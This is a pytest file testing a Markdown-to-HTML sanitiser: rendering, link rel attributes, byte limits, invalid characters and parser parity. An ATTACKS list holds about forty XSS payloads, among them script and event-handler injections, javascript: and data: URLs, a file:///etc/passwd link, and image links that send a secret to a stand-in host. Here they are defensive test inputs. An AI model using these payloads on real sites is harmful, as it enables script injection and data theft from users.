"""Markdown becomes HTML that is safe to show."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from streamproof.relay.markdown import ATTRIBUTES, LINK_REL, SCHEMES, TAGS, _parser, render


class Tags(HTMLParser):
    """Collects all tags with their attributes, with an HTML parser of Python."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep a tag."""
        self.found.append((tag, dict(attrs)))


def tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Tags()
    reader.feed(html)
    reader.close()
    return reader.found


LINK = f'rel="{LINK_REL}"'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("# A & B", "<h1>A &amp; B</h1>\n"),
        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>\n'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
        ("```py\na < b\n```", '<pre><code class="language-py">a &lt; b\n</code></pre>\n'),
        ("a  \nb", "<p>a<br>\nb</p>\n"),
        ("[a](https://b.test 't')", f'<p><a href="https://b.test" title="t" {LINK}>a</a></p>\n'),
        ("<mailto:a@b.test>", f'<p><a href="mailto:a@b.test" {LINK}>mailto:a@b.test</a></p>\n'),
        ("Kebijakan HR: é 😀 中文", "<p>Kebijakan HR: é 😀 中文</p>\n"),
    ],
    ids=[
        "empty",
        "heading",
        "inline",
        "list",
        "ordered",
        "quote",
        "code",
        "break",
        "link",
        "mail",
        "text",
    ],
)
def test_markdown_becomes_html(text, html):
    assert render(text) == html


def test_cells_of_a_table_keep_their_alignment():
    html = render("| a | b | c |\n| --- | ---: | :-: |\n| 1 | 2 | 3 |\n")
    assert re.findall(r"<t[hd]\b[^>]*>", html) == [
        *("<th>", '<th align="right">', '<th align="center">'),
        *("<td>", '<td align="right">', '<td align="center">'),
    ]


def test_a_table_becomes_a_table():
    names = [tag for tag, _ in tags(render("|a|b|\n|:-|-:|\n|1|2|"))]
    assert names == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<style>@import '//evil.test'</style>",
    "<base href='//evil.test'>",
    "<form action='//evil.test'><input name=q></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/path)",
    "[x](/api/chat/rooms)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://a.test "\\" onmouseover=alert(1)")',
    '[x](https://a.test"onmouseover="alert(1))',
    "![x](https://evil.test/?secret)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.test/?secret)](https://a.test)",
    "![x][y]\n\n[y]: https://evil.test/?secret",
    '```" onmouseover=alert(1)\nx\n```',
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


@pytest.mark.security(10)
@pytest.mark.parametrize("text", ATTACKS)
def test_only_the_allowlist_passes(text):
    for tag, attributes in tags(render(text)):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
        assert (attributes.get("href") or "https:").split(":")[0] in SCHEMES


@pytest.mark.parametrize(
    "text", ["[a](https://b.test)", "<https://b.test>", "[a]\n\n[a]: http://b.test"]
)
def test_every_link_has_the_rel_of_a_foreign_link(text):
    ((_, attributes),) = [found for found in tags(render(text)) if found[0] == "a"]
    assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize(
    ("max_bytes", "html"),
    [(6, "<p><em>&lt;é&gt;</em></p>\n"), (5, "<pre>*&lt;é&gt;*</pre>")],
    ids=["exactly-the-limit", "over-the-limit"],
)
def test_a_text_over_the_limit_of_utf_8_bytes_is_not_rendered(max_bytes, html):
    assert render("*<é>*", max_bytes=max_bytes) == html


@pytest.mark.parametrize("text", ["&#0;", "&#xD800;", "\0", "\ufffd"])
def test_characters_that_a_database_cannot_store_are_replaced(text):
    assert render(text) == "<p>\ufffd</p>\n"


@pytest.mark.parametrize("text", ["[" * 5000, ">" * 5000, "![" * 2500, "- " * 2500, "**a*" * 1250])
def test_deep_nesting_is_rendered(text):
    assert isinstance(render(text), str)


@given(st.text("ab1 \n#-+:=@%$^{}()[]<>!&*_~`\\|", max_size=60))
def test_a_paragraph_reads_as_with_all_characters_of_the_parser(text):
    plain = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    ours = _parser()
    assert ours.render(text) == plain.render(text)
